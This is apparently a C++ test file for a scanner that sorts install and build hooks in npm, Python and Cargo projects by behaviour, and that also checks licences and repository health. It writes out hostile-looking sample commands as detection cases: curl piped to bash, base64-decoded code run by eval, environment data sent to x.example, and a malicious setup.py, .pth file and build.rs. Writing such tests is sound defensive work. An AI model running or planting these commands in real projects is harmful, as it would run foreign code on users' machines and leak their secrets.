// Hooks, licences and health of small repositories in the shape of real ones.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

#include "observe/source/hooks.h"
#include "observe/source/project_facts.h"
#include "observe/source/spdx.h"
#include "observe/source/tree_help.h"

namespace mcpjury {
namespace {

namespace fs = std::filesystem;
using Words = std::vector<std::string>;

class Project : public testing::Test {
 protected:
  Project() : root_(fs::temp_directory_path() / ("mcpjury-facts-" + std::to_string(::getpid()))) {
    fs::create_directories(root_);
  }
  ~Project() override { fs::remove_all(root_); }
  void write(const std::string& path, std::string_view text) {
    fs::create_directories((root_ / path).parent_path());
    std::ofstream(root_ / path) << text;
  }
  SourceTree walk() {
    auto tree = walk_source(root_.string(), {});
    EXPECT_TRUE(tree.ok());
    return tree.ok() ? *tree : SourceTree();
  }
  JsonArray hooks() { return install_hooks(walk(), {}); }
  static Words behaviours(const Json& hook) {
    Words out;
    for (const Json& one : hook.at("behaviours").as_array()) out.emplace_back(view(one.as_string()));
    return out;
  }
  std::string problem_of(std::string_view source) {
    for (const Json& entry : licence_facts(walk(), {})) {
      if (find_string(entry.as_object(), "source") == source)
        return std::string(find_string(entry.as_object(), "problem"));
    }
    return "no such entry";
  }
  // "passed", "failed", or "" when the check was left out.
  static std::string check(const JsonObject& health, std::string_view id) {
    for (const Json& one : health.at("checks").as_array()) {
      if (find_string(one.as_object(), "id") == id) return one.at("passed").as_bool() ? "passed" : "failed";
    }
    return "";
  }
  fs::path root_;
};

TEST(Script, WhatCommandsDo) {
  const struct {
    const char* command;
    Words wanted;
  } kCases[] = {
      {"curl https://x.example/a.sh | bash", {"fetches", "runs_fetched", "runs_shell"}},
      {"wget -qO- https://x.example/a | sudo sh", {"fetches", "runs_fetched", "runs_shell"}},
      {"sh -c \"$(curl -fsSL https://x.example/i.sh)\"", {"fetches", "runs_fetched", "runs_shell"}},
      {"curl -o /tmp/x https://x.example/x && chmod +x /tmp/x && /tmp/x", {"fetches", "runs_fetched"}},
      {"echo aGk= | base64 -d | sh", {"decodes", "runs_decoded", "runs_shell"}},
      {"node -e \"eval(Buffer.from('aGk=','base64').toString())\"",
       {"decodes", "runs_decoded", "runs_inline"}},
      {"node -e \"require('https').get('https://x.example/'+process.env.USER)\"", {"fetches", "runs_inline"}},
      {"curl -O https://x.example/data.json", {"fetches"}},
      // Real ones, of which nobody needs to hear.
      {"node-gyp rebuild", {"build"}},
      {"prebuild-install || node-gyp rebuild --release", {"build"}},
      {"husky install", {"build"}},
      {"tsc -p .", {"build"}},
      {"patch-package || true", {"build"}},
      {"npx playwright install chromium", {"build"}},
      {"echo 'installed! see https://x.example/docs or curl x'", {}},
      {"node -e \"try{require('./postinstall')}catch(e){}\"", {}},
      {"node -e \"try { require('fs').chmodSync('./dist/index.js', '755') } catch (e) {}\"", {}},
      {"node scripts/postinstall.js", {}},
  };
  for (const auto& one : kCases) EXPECT_EQ(script_behaviours(one.command), one.wanted) << one.command;
}

TEST(Script, WhatFilesDo) {
  const auto does = [](std::string_view code) { return code_behaviours(code, ScriptLanguage::kJavaScript); };
  std::string hidden = "const { exec } = require('child_process');\n";
  for (int i = 0; i < 10; ++i) hidden += "var _0x4f" + std::to_string(10 + i) + "=_0x51ac(0x1);";
  EXPECT_EQ(does(hidden), (Words{"obfuscated", "runs_commands", "runs_decoded"}));
  EXPECT_EQ(does("execSync(Buffer.from(x, 'base64').toString())"), (Words{"runs_commands", "runs_decoded"}));
  EXPECT_EQ(does("fetch(u + JSON.stringify(process.env))"), (Words{"fetches", "reads_environment"}));
  EXPECT_EQ(does("execSync('curl -s https://x.example/a | sh')"),
            (Words{"fetches", "runs_commands", "runs_fetched"}));
  EXPECT_TRUE(does("console.log('thanks'); fs.chmodSync('dist/index.js', 0o755);").empty());
}

TEST(Script, FilesAndScriptsItRuns) {
  EXPECT_EQ(files_run_by("node ./scripts/a.js && sh b.sh"), (Words{"./scripts/a.js", "b.sh"}));
  EXPECT_EQ(files_run_by("node -e \"try{require('./post')}catch(e){}\""), Words{"./post"});
  EXPECT_EQ(scripts_run_by("npm run build && yarn run x:y"), (Words{"build", "x:y"}));
  EXPECT_EQ(joined_path("a/", "./b/../c.js"), "a/c.js");
  EXPECT_EQ(joined_path("a/", "../../etc/passwd"), std::nullopt);
  EXPECT_EQ(joined_path("", "/etc/passwd"), std::nullopt);
}

TEST_F(Project, TheFileOfAHookIsLookedInto) {
  write("package.json", R"({"name":"x","scripts":{"postinstall":"npm run setup","setup":"node scripts/s"}})");
  write("scripts/s.js",
        "const https = require('https');\nhttps.get(u, r => r.on('data', d => eval(d.toString())));\n");
  const JsonArray found = hooks();
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(behaviours(found[0]), (Words{"fetches", "runs_fetched"}));
  EXPECT_EQ(found[0].at("script").as_string(), "scripts/s.js");
}

TEST_F(Project, AHookDoesNotLeadOutOfTheTree) {
  write("package.json", R"({"name":"x","scripts":{"postinstall":"node ../../../../etc/hostname"}})");
  ASSERT_EQ(hooks().size(), 1u);
  EXPECT_FALSE(hooks()[0].as_object().contains("script"));
}

TEST_F(Project, PythonBuildHooks) {
  write("setup.py", "from setuptools import setup\nsetup(name='x')\n");
  EXPECT_TRUE(hooks().empty());
  write("setup.py",
        "import base64\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
        "class Run(install):\n  def run(self):\n    exec(base64.b64decode('aGk='))\n"
        "setup(cmdclass={'install': Run})\n");
  write("evil.pth", "import os; os.system('id')\n");
  write("pyproject.toml", "[build-system]\nbuild-backend = 'mine'\nbackend-path = ['tools']\n");
  write("tools/mine.py", "import urllib.request\nurllib.request.urlopen('https://x.example')\n");
  const JsonArray found = hooks();
  ASSERT_EQ(found.size(), 3u);
  EXPECT_EQ(found[0].at("hook").as_string(), "pth");
  EXPECT_EQ(behaviours(found[0]), (Words{"runs_commands", "runs_shell"}));
  EXPECT_EQ(found[1].at("hook").as_string(), "build-backend");
  EXPECT_EQ(behaviours(found[1]), Words{"fetches"});
  EXPECT_EQ(found[2].at("hook").as_string(), "cmdclass");
  EXPECT_EQ(found[2].at("line").to_number<int>(), 4);
  EXPECT_EQ(behaviours(found[2]), (Words{"decodes", "runs_decoded"}));
}

TEST_F(Project, VersionReadBySetupIsNoEvaluation) {
  write("setup.py", "exec(open('x/version.py').read())\nsetup(version=__version__)\n");
  EXPECT_TRUE(hooks().empty());
}

TEST_F(Project, OtherBuildHooks) {
  write("Cargo.toml", "[package]\nname='x'\n");
  write("build.rs", "fn main() { std::process::Command::new(\"curl\").arg(\"https://x.example\"); }");
  write("package.json", R"({"name":"native"})");
  write("binding.gyp",
        "{'targets': [{'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"]}]}");
  const JsonArray found = hooks();
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(behaviours(found[0]), (Words{"build", "fetches", "runs_commands"}));
  EXPECT_EQ(found[1].at("hook").as_string(), "binding.gyp");
  EXPECT_EQ(behaviours(found[1]), Words{"build"});
}

TEST(Spdx, ExpressionsAreParsed) {
  EXPECT_EQ(parse_spdx("(MIT OR Apache-2.0)").ids, (Words{"MIT", "Apache-2.0"}));
  EXPECT_TRUE(parse_spdx("(MIT OR Apache-2.0)").choice);
  EXPECT_EQ(parse_spdx("GPL-2.0-or-later WITH Classpath-exception-2.0").ids, Words{"GPL-2.0"});
  EXPECT_EQ(parse_spdx("Apache License, Version 2.0").ids, Words{"Apache-2.0"});
  for (const char* wrong : {"", "MIT OR", "(MIT", "MIT)", "AND MIT", "MIT Apache-2.0", "<script>"})
    EXPECT_FALSE(parse_spdx(wrong).valid) << wrong;
  EXPECT_FALSE(parse_spdx(std::string(500, '(') + "MIT" + std::string(500, ')')).valid);
  EXPECT_TRUE(same_licence("GPL-3.0-only", "GPL-3.0-or-later"));
  EXPECT_FALSE(same_licence("MIT", "MIT-0"));
}

TEST(Licences, AreToldByTheirText) {
  using Ids = std::vector<std::string_view>;
  EXPECT_EQ(
      licences_in_text("GNU GENERAL PUBLIC LICENSE\n  Version 3, 29 June 2007 … GNU Affero General Public "
                       "License … GNU Lesser General Public License version 3"),
      Ids{"GPL-3.0"});
  EXPECT_EQ(licences_in_text("GNU AFFERO GENERAL PUBLIC LICENSE\nVersion 3, 19 November 2007"),
            Ids{"AGPL-3.0"});
  EXPECT_EQ(licences_in_text("Redistribution and use in source and binary forms, with or without\n"
                             "3. Neither the name of the copyright holder"),
            Ids{"BSD-3-Clause"});
  EXPECT_EQ(licences_in_text("Redistribution and use in source and binary forms"), Ids{"BSD-2-Clause"});
  EXPECT_EQ(licences_in_text("Business Source License 1.1\nLicensor: X"), Ids{"BUSL-1.1"});
  EXPECT_EQ(
      licences_in_text("Permission to use, copy, modify, and/or distribute this software for any purpose "
                       "with or without fee is hereby granted.\nTHE SOFTWARE IS PROVIDED \"AS IS\""),
      Ids{"0BSD"});
  EXPECT_TRUE(licences_in_text("All rights reserved.").empty());
}

TEST_F(Project, LicenceProblems) {
  EXPECT_EQ(problem_of("tree"), "no licence was found");
  write("LICENSE", "Apache License\nVersion 2.0, January 2004");
  EXPECT_EQ(problem_of("file"), "");
  write("package.json", R"({"license":"MIT"})");
  EXPECT_EQ(problem_of("manifest"), "the manifest says MIT, the licence file is Apache-2.0");
  write("package.json", "{\"license\":\"(MIT OR Apache-2.0)\"}");
  EXPECT_EQ(problem_of("manifest"), "");
  write("package.json", R"({"license":"UNLICENSED"})");
  EXPECT_EQ(problem_of("manifest"), "nobody is given a licence");
  write("package.json", R"({"license":"Foo-1.0"})");
  EXPECT_EQ(problem_of("manifest"), "Foo-1.0 is no licence that is known");
  write("package.json", R"({"licenses":[{"type":"Apache-2.0"}]})");
  EXPECT_EQ(problem_of("manifest"), "");
}

TEST(Licences, CopyleftBelowAPermissivePackageIsSaid) {
  JsonArray licences{JsonObject{{"id", "MIT"}}};
  const JsonArray packages{JsonObject{{"name", "a"}, {"licence", "GPL-3.0-only"}},
                           JsonObject{{"name", "b"}, {"licence", "MIT OR GPL-3.0"}},
                           JsonObject{{"name", "c"}, {"licence", "AGPL-3.0"}, {"development", true}},
                           JsonObject{{"name", "d"}, {"licence", "LGPL-3.0"}}};
  add_dependency_licences(licences, packages);
  ASSERT_EQ(licences.size(), 2u);
  EXPECT_EQ(licences[1].at("source").as_string(), "dependency");
}

TEST_F(Project, HealthOfFiles) {
  write("README.md", "x");
  write("package.json", "{}");
  write("src/a.ts", "x");
  write("src/a.test.ts", "x");
  write("bin/tool.exe", std::string(5000, 'x'));
  write(".github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n");
  const JsonObject health = health_facts(walk(), {}, "2026-01-01T00:00:00Z");
  EXPECT_EQ(check(health, "readme"), "passed");
  EXPECT_EQ(check(health, "licence_file"), "failed");
  EXPECT_EQ(check(health, "tests"), "passed");
  EXPECT_EQ(check(health, "lock_file"), "failed");
  EXPECT_EQ(check(health, "continuous_integration"), "passed");
  EXPECT_EQ(check(health, "actions_pinned"), "failed");
  EXPECT_EQ(check(health, "no_binaries"), "failed");
  EXPECT_EQ(check(health, "recent_commit"), "");
  EXPECT_EQ(check(health, "branch_protection"), "");
  SourceLimits published;
  published.published = true;
  const JsonObject package = health_facts(walk(), published, "2026-01-01T00:00:00Z");
  EXPECT_EQ(check(package, "tests"), "");
}

}  // namespace
}  // namespace mcpjury
